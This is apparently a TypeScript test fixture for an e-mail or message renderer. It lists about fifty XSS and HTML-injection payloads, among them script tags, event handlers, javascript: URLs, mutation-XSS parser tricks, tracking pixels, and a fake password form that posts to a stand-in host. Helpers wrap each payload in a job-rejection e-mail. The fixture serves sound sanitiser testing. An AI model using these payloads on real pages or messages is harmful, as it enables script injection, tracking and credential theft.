/** What runs if anything in a message runs. */
const RUN = 'window.__pwned=1';
/** Nobody may ask this host for anything. */
const THEIRS = 'https://evil.example';

/** Pieces of HTML that run, fetch, submit or restyle where a message is taken as a page instead of as words. */
export const HOSTILE_HTML: readonly string[] = [
  // Scripts
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${THEIRS}/a.js></SCRIPT>`,
  `<script type="module">import '${THEIRS}/b.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script\n>`,
  `<script>fetch('${THEIRS}/c')</script>`,
  // Handlers
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<body onload="${RUN}">`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">.</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<video autoplay onloadstart="${RUN}" src="${THEIRS}/d.mp4"></video>`,
  `<audio src="${THEIRS}/e.mp3" autoplay oncanplay="${RUN}"></audio>`,
  `<p onpointerenter="${RUN}" contenteditable>.</p>`,
  `<marquee onstart="${RUN}">.</marquee>`,
  // Pictures, frames and files from elsewhere
  `<img src="${THEIRS}/pixel.png" width=1 height=1>`,
  `<img srcset="${THEIRS}/f.png 1x, ${THEIRS}/g.png 2x">`,
  `<picture><source srcset="${THEIRS}/h.webp"><img src="${THEIRS}/i.png"></picture>`,
  `<table background="${THEIRS}/j.png"><tr><td>.</td></tr></table>`,
  `<iframe src="${THEIRS}/k"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="${THEIRS}/l"></object><embed src="${THEIRS}/m">`,
  `<link rel="stylesheet" href="${THEIRS}/n.css"><link rel="prefetch" href="${THEIRS}/o">`,
  // Forms and links
  `<form action="${THEIRS}/p"><input name=password type=password><button>Sign in</button></form>`,
  `<form id=f action="javascript:${RUN}"><button form=f>Go on</button></form>`,
  `<a href="javascript:${RUN}">our site</a>`,
  `<a href="&#106;&#97;vascript:${RUN}">our site</a>`,
  `<a href=" java\nscript:${RUN}" ping="${THEIRS}/q">our site</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">our site</a>`,
  `<a href="vbscript:${RUN}">our site</a>`,
  // Styles
  `<style>@import url("${THEIRS}/r.css"); body{display:none}</style>`,
  `<style>*{background:url(${THEIRS}/s.png)!important}</style>`,
  `<div style="background:url(${THEIRS}/t.png);position:fixed;inset:0;z-index:9999">.</div>`,
  `<style>@font-face{font-family:x;src:url(${THEIRS}/u.woff2)}p{font-family:x}</style>`,
  // The page itself
  `<meta http-equiv="refresh" content="0;url=${THEIRS}/v">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  `<base href="${THEIRS}/">`,
  // Pictures in code
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><image href="${THEIRS}/w.png"/><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>our site</text></a></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  // What changes when it is read twice
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></a></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<select><option><style></option></select><b><img src=x onerror=${RUN}></b></style></select>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></p></xmp>`,
];

/** The message around such a piece, as an employer's program would send it. */
export function hostilePage(piece: string): string {
  return `<html><body><p>Dear Ines,</p>${piece}<p>We chose another person.</p></body></html>`;
}

/** The same as a saved e-mail with an HTML part alone. */
export function hostileMail(piece: string): string {
  return [
    'From: Dana Whitlow <dana@halden.example>',
    'Date: Mon, 02 Nov 2026 10:00:00 +0100',
    'Subject: Your application',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=UTF-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(hostilePage(piece)).toString('base64'),
    '',
  ].join('\r\n');
}
